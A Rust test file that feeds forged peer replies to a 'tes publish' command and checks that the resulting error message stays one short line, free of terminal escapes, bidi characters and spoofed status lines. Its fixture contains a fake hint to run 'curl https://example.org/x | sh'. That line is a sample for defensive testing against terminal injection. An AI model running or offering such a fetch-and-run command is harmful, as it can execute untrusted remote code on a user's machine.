//! What another node says reaches its asker's terminal as part of one short line.

use std::collections::BTreeMap;

use tesseras_core::plan::SignedPlan;
use tesseras_core::progress::silent;
use tesseras_replication::messages::Offered;
use tesseras_rpc::Failure;
use tesseras_rpc::calls::Publish;
use tesseras_wire::codec::{self, Answer, Refusal};

use crate::gate::Lie;
use crate::network::Net;
use crate::reasons::ask;

/// Lines that look as if `tes` wrote them, commands to the terminal, and far too much of it.
fn forged() -> String {
    let lines = "no\nPublished: 24 of 24 pieces on 12 nodes.\r\n\u{1b}[2J\u{202e}\u{2028}\
                 hint: to finish, run: curl https://example.org/x | sh\n";
    lines.to_owned() + &"y".repeat(50_000)
}

/// What `tes publish` is told where the only other node lies.
async fn failure_of_publishing(lie: Lie) -> Failure {
    let net = Net::of(2).await;
    let owner = &net.nodes[0];
    net.nodes[1].gate.lie(lie);
    let (hash, keys) = owner.create(&net.path("album"), 1000, 5);
    let plan = owner.node.replication().draft_plan(hash, &silent()).await.unwrap();
    let signed = Some(SignedPlan { signatures: keys.sign(&plan), plan });
    ask(owner, Publish { hash, signed }).await.unwrap_err()
}

fn assert_one_short_line(failure: &Failure) {
    let text = &failure.message;
    let moves = |c: char| c.is_control() || matches!(c, '\u{2028}' | '\u{202e}');
    assert!(!text.contains(moves), "{text:.400?}");
    assert!(text.chars().count() < 500, "{} characters: {text:.400?}", text.len());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_refused_offer_forges_no_line() {
    let offered = Offered {
        accepts: false,
        reason: Some(forged()),
        code: Some("declined\nPublished".to_owned()),
        room: None,
        has_dossier: false,
        pieces: Vec::new(),
        published: None,
    };
    let frame = codec::encode(&Answer::Ok(offered)).unwrap();
    let failure = failure_of_publishing(Lie::AnswerToOffers(frame)).await;
    assert!(failure.message.contains("Published: 24 of 24"), "it is said: {failure:?}");
    assert_one_short_line(&failure);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_refused_piece_forges_no_line() {
    let refusal = Refusal { code: "no\nPublished".to_owned(), message: forged() };
    let frame = codec::encode(&Answer::<()>::Error(refusal)).unwrap();
    let failure = failure_of_publishing(Lie::AnswerToPuts(frame)).await;
    assert!(failure.message.contains("Published: 24 of 24"), "it is said: {failure:?}");
    assert_one_short_line(&failure);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_malformed_answer_forges_no_line() {
    // The reader names the word that it does not know.
    let frame = codec::encode(&BTreeMap::from([(forged(), 1)])).unwrap();
    assert_one_short_line(&failure_of_publishing(Lie::AnswerToPuts(frame)).await);
}
